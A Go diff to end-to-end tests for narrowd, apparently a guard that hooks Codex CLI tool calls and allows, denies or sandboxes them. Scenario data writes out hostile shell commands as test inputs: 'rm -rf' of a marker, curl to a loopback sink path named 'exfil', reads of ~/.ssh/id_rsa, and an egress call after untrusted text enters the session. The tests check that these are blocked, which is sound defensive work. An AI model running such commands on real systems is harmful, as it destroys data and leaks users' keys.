@@ -4,7 +4,6 @@ import (
 	"encoding/json"
 	"path/filepath"
 	"strings"
-	"syscall"
 	"testing"
 	"time"
 )
@@ -12,31 +11,6 @@ import (
 // codexClient is OpenAI's Codex CLI, the release real-clients.md §4 was
 // verified against.
 var codexClient = npmClient{Pkg: "@openai/codex", Version: "0.169.0", Bin: "codex"}
-
-// codexWorld is a world with the Responses dialect, Codex's config.toml
-// pointing at it and narrowd's hooks installed by `narrowd install codex`.
-// The config file is the user's: the provider, and the trust decision for
-// the project (Codex runs hooks only in a trusted project, and only with
-// --dangerously-bypass-hook-trust, which runCodex passes; that trust is
-// the user's to give, not narrowd's). The hook entries must come from
-// narrowd install, so the test proves the file it writes is one Codex
-// reads.
-func codexWorld(t *testing.T, opt WorldOptions) (*World, string) {
-	t.Helper()
-	w, bin := codexWorldBare(t, opt)
-	w.Install("codex")
-	return w, bin
-}
-
-// codexWorldBare is codexWorld without narrowd's hooks.
-func codexWorldBare(t *testing.T, opt WorldOptions) (*World, string) {
-	t.Helper()
-	bin := needClient(t, codexClient)
-	w := NewWorld(t, opt)
-	w.Model.HandleOpenAI()
-	writeCodexConfig(w, "never", "danger-full-access")
-	return w, bin
-}
 
 // writeCodexConfig writes the user's config.toml with an approval policy
 // and a sandbox mode.
@@ -100,265 +74,104 @@ func codexID(turn int) string { return "call_" + CallID(turn, 0) }
 // blocked a call; narrowd's reason follows.
 const blockedByNarrowd = "Command blocked by PreToolUse hook: narrowd"
 
-func TestCodexHarmlessRead(t *testing.T) {
-	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
-	w.Start()
-	sc := Scenario{Name: "codex-read", Turns: []Turn{
-		{Calls: []ToolCall{shell("ls")}},
-		{Calls: []ToolCall{shell("cat README.md")}},
-		{Calls: []ToolCall{shell("grep -n hello README.md main.go | head -5")}},
-	}}
-	runCodex(t, w, bin, sc)
-	last := w.Model.Last(sc.Name)
-	for i, want := range []string{"main.go", "second line", "README.md:1:hello world"} {
-		res, ok := last.Result(i, 0)
-		if !ok || !strings.Contains(res.Text, want) || strings.Contains(res.Text, "blocked") {
-			t.Errorf("turn %d result = %+v (found %v), want output with %q", i, res, ok, want)
-		}
-		// Allowed at pre-tool with no prompt: narrowd abstains (Codex
-		// treats a plain allow as an unsupported answer).
-		wantAudit(t, w, codexID(i), "PreToolUse", "allow", "abstain")
-	}
+// codexDriver is Codex to the shared scenarios (agents_test.go). Its
+// hook payloads carry the model's call ids, so each call's audit record
+// is found by id.
+var codexDriver = driver{
+	name: "codex", client: codexClient,
+	// The config file is the user's: the provider, and the trust decision
+	// for the project (Codex runs hooks only in a trusted project, and
+	// only with --dangerously-bypass-hook-trust, which runCodex passes;
+	// that trust is the user's to give, not narrowd's).
+	setup: func(w *World) {
+		w.Model.HandleOpenAI()
+		writeCodexConfig(w, "never", "danger-full-access")
+	},
+	run: func(t *testing.T, w *World, bin string, sc Scenario) Result {
+		t.Helper()
+		return runCodex(t, w, bin, sc)
+	},
+	shell: shell,
+	read:  func(file string) ToolCall { return shell("cat " + file) },
+	write: func(file, content string) ToolCall {
+		return shell("printf '" + strings.ReplaceAll(content, "\n", `\n`) + "' > " + file)
+	},
+	blocked: blockedByNarrowd, hookFailed: blockedByNarrowd,
+	settings:     func(w *World) string { return filepath.Join(w.Home, ".codex", "config.toml") },
+	keep:         `model_provider = "fake"`,
+	wantOutcomes: codexOutcomes,
 }
 
-func TestCodexWorkspaceWrite(t *testing.T) {
-	t.Parallel()
-	for _, tt := range []struct {
-		profile string
-		written bool
-	}{
-		{"standard", true}, // write-workspace-file allows one proven workspace file
-		{"strict", false},  // strict asks, and Codex cannot ask: a deny
-	} {
-		t.Run(tt.profile, func(t *testing.T) {
-			t.Parallel()
-			w, bin := codexWorld(t, WorldOptions{Profile: tt.profile})
-			w.Start()
-			sc := Scenario{Name: "codex-write", Turns: []Turn{
-				{Calls: []ToolCall{shell("printf 'by codex\\n' > notes.txt")}},
-			}}
-			runCodex(t, w, bin, sc)
-			res, _ := w.Model.Last(sc.Name).Result(0, 0)
-			notes := filepath.Join(w.Project, "notes.txt")
-			if tt.written {
-				mustExist(t, notes, "by codex\n")
-				wantAudit(t, w, codexID(0), "PreToolUse", "allow", "abstain")
-				if strings.Contains(res.Text, "blocked") {
-					t.Errorf("result = %q, want the write to have run", res.Text)
+// codexOutcomes checks that each call of sc has exactly one pre-tool
+// audit record, found by its call id, with the wanted outcome. An allow
+// is answered as an abstain (Codex treats a plain allow as an unsupported
+// answer), a sandbox as the rewrite to narrowd exec.
+func codexOutcomes(t *testing.T, w *World, sc Scenario, outcomes ...string) {
+	t.Helper()
+	if n := len(callsOf(sc)); n != len(outcomes) {
+		t.Fatalf("%s has %d calls, %d outcomes given", sc.Name, n, len(outcomes))
+	}
+	audit, k := w.Audit(), 0
+	for turn, tu := range sc.Turns {
+		for i := range tu.Calls {
+			id, want := "call_"+CallID(turn, i), outcomes[k]
+			k++
+			var pre []AuditRecord
+			for _, r := range audit {
+				if r.ToolUseID == id && r.Phase == "pre_tool" {
+					pre = append(pre, r)
 				}
-				return
 			}
-			mustNotExist(t, notes)
-			wantAudit(t, w, codexID(0), "PreToolUse", "ask", "")
-			if !strings.Contains(res.Text, blockedByNarrowd+": needs approval") {
-				t.Errorf("result = %q, want narrowd's needs-approval reason", res.Text)
+			if len(pre) != 1 {
+				t.Errorf("%s: pre-tool audit records %+v, want one %s", id, pre, want)
+				continue
 			}
-		})
+			r, answer := pre[0], map[string]string{"allow": "abstain", "sandbox": "sandbox"}[want]
+			if r.Event != "PreToolUse" || !outcomeIs(r.Outcome, want) || answer != "" && r.Answer != answer {
+				t.Errorf("audit for %s = event %s outcome %s answer %s (rule %s), want PreToolUse %s %s",
+					id, r.Event, r.Outcome, r.Answer, r.PolicyRule, want, answer)
+			}
+		}
 	}
 }
 
-func TestCodexDangerousNeverRuns(t *testing.T) {
-	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
-	sink := NewSink(t, "exfiltrated\n")
-	w.Model.Vars["SINK"] = sink.URL
-	w.Start()
-	sc := Scenario{Name: "codex-danger", Turns: []Turn{
-		{Calls: []ToolCall{shell("rm -rf {{MARKER}}")}},
-		{Calls: []ToolCall{shell("curl -s {{SINK}}/exfil")}},
-		{Calls: []ToolCall{shell("cat {{HOME}}/.ssh/id_rsa")}},
-		{Calls: []ToolCall{shell("cat ~/.ssh/id_rsa")}},
-	}}
-	runCodex(t, w, bin, sc)
-	mustExist(t, w.MarkerFile, "narrowd e2e marker: must survive\n")
-	if hits := sink.Hits(); len(hits) != 0 {
-		t.Errorf("the loopback sink got requests %v; curl must not have run", hits)
-	}
-	last := w.Model.Last(sc.Name)
-	for i := range sc.Turns {
-		res, ok := last.Result(i, 0)
-		if !ok || !strings.HasPrefix(res.Text, blockedByNarrowd) {
-			t.Errorf("turn %d result = %+v (found %v), want narrowd's reason", i, res, ok)
-		}
-		recs := w.AuditFor(codexID(i))
-		if len(recs) == 0 || recs[0].Outcome == "allow" {
-			t.Errorf("turn %d audit = %+v, want one refusal", i, recs)
-		}
-	}
-	noLeak(t, w.Model, "FAKE-E2E-KEY-DO-NOT-LEAK")
-}
+func TestCodexHarmlessRead(t *testing.T) { testHarmlessRead(t, codexDriver) }
 
-func TestCodexAskNeverRuns(t *testing.T) {
-	t.Parallel()
-	// Codex cannot ask ("ask" is an unsupported answer, and an
-	// unsupported answer lets the tool run), so an ask must come back as
-	// a deny even when narrowd is told a person is there.
-	for _, interactive := range []bool{false, true} {
-		name := "headless"
-		if interactive {
-			name = "interactive"
-		}
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			w, bin := codexWorld(t, WorldOptions{})
-			if interactive {
-				w.AppendConfig("interactive = true\n")
-			}
-			w.Start()
-			sc := Scenario{Name: "codex-ask", Turns: []Turn{
-				{Calls: []ToolCall{shell("rm README.md")}},
-			}}
-			runCodex(t, w, bin, sc)
-			mustExist(t, filepath.Join(w.Project, "README.md"), "")
-			wantAudit(t, w, codexID(0), "PreToolUse", "ask", "")
-			res, _ := w.Model.Last(sc.Name).Result(0, 0)
-			if !strings.Contains(res.Text, "needs approval") || !strings.Contains(res.Text, "narrowd profile") {
-				t.Errorf("result = %q, want narrowd's reason with how to approve", res.Text)
-			}
-		})
-	}
-}
+// TestCodexWorkspaceWrite: Codex cannot ask, so strict's ask is a deny.
+func TestCodexWorkspaceWrite(t *testing.T) { testWorkspaceWrite(t, codexDriver) }
 
-func TestCodexDaemonStopped(t *testing.T) {
-	t.Parallel()
-	t.Run("in-process", func(t *testing.T) {
-		t.Parallel()
-		w, bin := codexWorld(t, WorldOptions{})
-		// The daemon ran once and is gone: the shim must judge in-process.
-		w.Start()
-		w.Stop()
-		sc := Scenario{Name: "codex-offline", Turns: []Turn{
-			{Calls: []ToolCall{shell("cat README.md")}},
-			{Calls: []ToolCall{shell("rm -rf {{MARKER}}")}},
-			{Calls: []ToolCall{shell("rm README.md")}},
-		}}
-		runCodex(t, w, bin, sc)
-		last := w.Model.Last(sc.Name)
-		if res, _ := last.Result(0, 0); !strings.Contains(res.Text, "hello world") {
-			t.Errorf("read result = %q, want README.md's text (allowed in-process)", res.Text)
-		}
-		for turn := 1; turn <= 2; turn++ {
-			if res, _ := last.Result(turn, 0); !strings.HasPrefix(res.Text, blockedByNarrowd) {
-				t.Errorf("turn %d result = %q, want narrowd's refusal", turn, res.Text)
-			}
-		}
-		mustExist(t, w.MarkerFile, "")
-		mustExist(t, filepath.Join(w.Project, "README.md"), "")
-	})
-	t.Run("hung", func(t *testing.T) {
-		t.Parallel()
-		// The daemon is there but answers nothing (stopped with
-		// SIGSTOP): the shim gives up after its timeout and must still
-		// never let through what the profile would not allow.
-		w, bin := codexWorld(t, WorldOptions{})
-		w.Start()
-		w.Signal(syscall.SIGSTOP)
-		defer w.Signal(syscall.SIGCONT)
-		sc := Scenario{Name: "codex-hung", Turns: []Turn{
-			{Calls: []ToolCall{shell("cat README.md")}},
-			{Calls: []ToolCall{shell("rm -rf {{MARKER}}")}},
-		}}
-		runCodex(t, w, bin, sc)
-		last := w.Model.Last(sc.Name)
-		// A read is judged in-process after the timeout (or blocked).
-		if res, _ := last.Result(0, 0); !strings.Contains(res.Text, "hello world") && !strings.HasPrefix(res.Text, blockedByNarrowd) {
-			t.Errorf("read result = %q, want README.md's text or narrowd's block", res.Text)
-		}
-		if res, _ := last.Result(1, 0); !strings.HasPrefix(res.Text, blockedByNarrowd) {
-			t.Errorf("rm result = %q, want narrowd's refusal", res.Text)
-		}
-		mustExist(t, w.MarkerFile, "")
-	})
-	t.Run("in-process-profile", func(t *testing.T) {
-		t.Parallel()
-		// In-process judging uses the configured profile, not the
-		// default: strict asks about a workspace write standard allows.
-		w, bin := codexWorld(t, WorldOptions{Profile: "strict"})
-		sc := Scenario{Name: "codex-offline-strict", Turns: []Turn{
-			{Calls: []ToolCall{shell("cat README.md")}},
-			{Calls: []ToolCall{shell("printf 'x\\n' > notes.txt")}},
-		}}
-		runCodex(t, w, bin, sc)
-		last := w.Model.Last(sc.Name)
-		if res, _ := last.Result(0, 0); !strings.Contains(res.Text, "hello world") {
-			t.Errorf("read result = %q, want README.md's text (allowed in-process)", res.Text)
-		}
-		if res, _ := last.Result(1, 0); !strings.HasPrefix(res.Text, blockedByNarrowd) || !strings.Contains(res.Text, "needs approval") {
-			t.Errorf("write result = %q, want strict's needs-approval refusal", res.Text)
-		}
-		mustNotExist(t, filepath.Join(w.Project, "notes.txt"))
-	})
-	t.Run("blocks", func(t *testing.T) {
-		t.Parallel()
-		w, bin := codexWorld(t, WorldOptions{})
-		// No daemon, and a config the shim cannot read: it cannot judge,
-		// so it must block even a harmless read.
-		w.AppendConfig("this is not toml\n")
-		sc := Scenario{Name: "codex-broken", Turns: []Turn{
-			{Calls: []ToolCall{shell("cat README.md")}},
-			{Calls: []ToolCall{shell("rm -rf {{MARKER}}")}},
-		}}
-		runCodex(t, w, bin, sc)
-		last := w.Model.Last(sc.Name)
-		for turn := range sc.Turns {
-			res, _ := last.Result(turn, 0)
-			if !strings.HasPrefix(res.Text, blockedByNarrowd) || !strings.Contains(res.Text, "narrowd: could not check this call") {
-				t.Errorf("turn %d result = %q, want narrowd's could-not-check block", turn, res.Text)
-			}
-			if strings.Contains(res.Text, "hello world") {
-				t.Errorf("turn %d ran: %q", turn, res.Text)
-			}
-		}
-		mustExist(t, w.MarkerFile, "")
-	})
-}
+func TestCodexDangerousNeverRuns(t *testing.T) { testDangerousNeverRuns(t, codexDriver, nil, nil) }
 
-// taintProfile allows everything except sending data out once text
-// written by others entered the session: it isolates seed 003's rule, so
-// the same egress call is allowed in a clean session and refused in a
-// tainted one.
-const taintProfile = `name = "e2e-taint"
-description = "Everything runs, except sending data out after third-party content entered the session."
+// TestCodexAskNeverRuns: "ask" is an unsupported answer to Codex, and an
+// unsupported answer lets the tool run.
+func TestCodexAskNeverRuns(t *testing.T) { testAskNeverRuns(t, codexDriver) }
 
-[[rule]]
-id = "allow-all"
-when = 'true'
-then = "allow"
-reason = "the e2e taint profile allows everything else"
+func TestCodexDaemonStopped(t *testing.T) { testDaemonStopped(t, codexDriver) }
 
-[[rule]]
-id = "no-send-after-read"
-when = 'call.external_effect && session.called_with("reads_untrusted")'
-then = "deny"
-reason = "this call can send data out, and text written by others has entered this session"
-`
-
+// TestCodexSessionTaint: taintScenarios' shape with Codex's tools
+// (exec_command takes cmd, not command): a patch returns no third-party
+// text and makes the session known and clean; cat then brings a project
+// file in.
 func TestCodexSessionTaint(t *testing.T) {
-	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{ProfileTOML: taintProfile})
-	w.Start()
-	pe := newProbeEnv(t, w)
-	// taintScenarios' shape with Codex's tools (exec_command takes cmd,
-	// not command): a patch returns no third-party text and makes the
-	// session known and clean; cat then brings a project file in.
-	clean := Scenario{Name: "taint-control", Turns: []Turn{
-		{Calls: []ToolCall{patch("*** Begin Patch\n*** Add File: clean.txt\n+note\n*** End Patch\n")}},
-		{Calls: []ToolCall{shell("curl -s {{SINK}}/clean")}},
-	}}
-	tainted := Scenario{Name: "taint", Turns: []Turn{
-		{Calls: []ToolCall{patch("*** Begin Patch\n*** Add File: tainted.txt\n+note\n*** End Patch\n")}},
-		{Calls: []ToolCall{shell("cat README.md")}},
-		{Calls: []ToolCall{shell("curl -s {{SINK}}/tainted")}},
-	}}
-	runCodex(t, w, bin, clean)
-	runCodex(t, w, bin, tainted)
-	checkTaint(t, w, pe, tainted)
+	clean := oneCallPerTurn("taint-control",
+		patch("*** Begin Patch\n*** Add File: clean.txt\n+note\n*** End Patch\n"),
+		shell("curl -s {{SINK}}/clean"))
+	tainted := oneCallPerTurn("taint",
+		patch("*** Begin Patch\n*** Add File: tainted.txt\n+note\n*** End Patch\n"),
+		shell("cat README.md"),
+		shell("curl -s {{SINK}}/tainted"))
+	testSessionTaint(t, codexDriver, clean, tainted)
 }
+
+func TestCodexInstallLevels(t *testing.T) { testInstallLevels(t, codexDriver) }
+
+func TestCodexParallelCalls(t *testing.T) { testParallelCalls(t, codexDriver) }
+
+func TestCodexSandbox(t *testing.T) { testSandbox(t, codexDriver) }
 
 func TestCodexApplyPatch(t *testing.T) {
 	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
+	w, bin := codexDriver.world(t, WorldOptions{})
 	w.Start()
 	outside := filepath.Join(w.Outside, "planted.txt")
 	sc := Scenario{Name: "codex-patch", Turns: []Turn{
@@ -427,7 +240,7 @@ func TestCodexApplyPatch(t *testing.T) {
 // avoided, really or by estimate (an allow is an abstain at pre-tool).
 func TestCodexMetrics(t *testing.T) {
 	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
+	w, bin := codexDriver.world(t, WorldOptions{})
 	sink := NewSink(t, "sink body\n")
 	w.Model.Vars["SINK"] = sink.URL
 	w.Start()
@@ -476,70 +289,6 @@ func TestCodexMetrics(t *testing.T) {
 	}
 }
 
-// TestCodexInstallLevels: the hooks `narrowd install codex` writes at user
-// level and into a trusted project both run in the real client, and
-// `narrowd uninstall codex` removes exactly what made the difference:
-// the same call narrowd refused runs once the hooks are gone.
-func TestCodexInstallLevels(t *testing.T) {
-	t.Parallel()
-	for _, project := range []bool{false, true} {
-		name := "user"
-		if project {
-			name = "project"
-		}
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			w, bin := codexWorldBare(t, WorldOptions{})
-			var args []string
-			if project {
-				args = []string{"--project", w.Project}
-			}
-			w.Install("codex", args...)
-			w.Start()
-			scratch := filepath.Join(w.Project, "scratch.txt")
-			w.WriteFile(scratch, "delete me\n")
-			sc := Scenario{Name: "codex-install", Turns: []Turn{{Calls: []ToolCall{shell("rm scratch.txt")}}}}
-			runCodex(t, w, bin, sc)
-			mustExist(t, scratch, "delete me\n")
-			wantAudit(t, w, codexID(0), "PreToolUse", "ask", "")
-
-			w.Narrowd("", append([]string{"uninstall", "codex", "--binary", narrowdBin}, args...)...)
-			before := len(w.Audit())
-			sc2 := Scenario{Name: "codex-uninstalled", Turns: sc.Turns}
-			runCodex(t, w, bin, sc2)
-			mustNotExist(t, scratch)
-			if after := len(w.Audit()); after != before {
-				t.Errorf("audit records went from %d to %d after uninstall; the hook must be gone", before, after)
-			}
-		})
-	}
-}
-
-// TestCodexParallelCalls: one model turn with several calls, which Codex
-// may run (and hook) concurrently: each is judged on its own, the read
-// runs and the deletion outside the workspace does not.
-func TestCodexParallelCalls(t *testing.T) {
-	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
-	w.Start()
-	sc := Scenario{Name: "codex-parallel", Turns: []Turn{
-		{Calls: []ToolCall{shell("cat README.md"), shell("rm -rf {{MARKER}}"), shell("ls")}},
-	}}
-	runCodex(t, w, bin, sc)
-	last := w.Model.Last(sc.Name)
-	for i, want := range []string{"second line", blockedByNarrowd, "main.go"} {
-		if res, ok := last.Result(0, i); !ok || !strings.Contains(res.Text, want) {
-			t.Errorf("call %d result = %+v (found %v), want %q", i, res, ok, want)
-		}
-	}
-	mustExist(t, w.MarkerFile, "")
-	for i, outcome := range []string{"allow", "deny", "allow"} {
-		if recs := w.AuditFor("call_" + CallID(0, i)); len(recs) != 1 || recs[0].Outcome != outcome {
-			t.Errorf("call %d audit = %+v, want one %s", i, recs, outcome)
-		}
-	}
-}
-
 // TestCodexPromptsAvoided: the one place narrowd really spares a person a
 // prompt. With approval on request (and --approve-for-me, the headless
 // way to let exec ask), a command the model runs with escalated
@@ -551,7 +300,7 @@ func TestCodexParallelCalls(t *testing.T) {
 // (which would be a request to the model).
 func TestCodexPromptsAvoided(t *testing.T) {
 	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
+	w, bin := codexDriver.world(t, WorldOptions{})
 	writeCodexConfig(w, "on-request", "workspace-write")
 	w.Start()
 	escalated := func(cmd string) ToolCall {
@@ -613,20 +362,4 @@ func TestCodexPromptsAvoided(t *testing.T) {
 			t.Errorf("a request outside the scenario reached the model (Codex's own reviewer?): %s %s", r.Path, r.Body)
 		}
 	}
-}
-
-// TestCodexSandbox: a build narrowd's profile sends to its sandbox
-// (run-repo-code) reaches real Codex as a rewrite to `narrowd exec
-// --ticket`, and runs confined: the workspace write lands, a write
-// outside the workspace and a connection to the loopback sink fail.
-func TestCodexSandbox(t *testing.T) {
-	t.Parallel()
-	w, bin := codexWorld(t, WorldOptions{})
-	sink := writeSandboxProbe(t, w)
-	w.Start()
-	sc := Scenario{Name: "codex-sandbox", Turns: []Turn{{Calls: []ToolCall{shell("make")}}}}
-	runCodex(t, w, bin, sc)
-	res, _ := w.Model.Last(sc.Name).Result(0, 0)
-	checkSandboxProbe(t, w, sink, res)
-	wantAudit(t, w, codexID(0), "PreToolUse", "sandbox", "sandbox")
 }
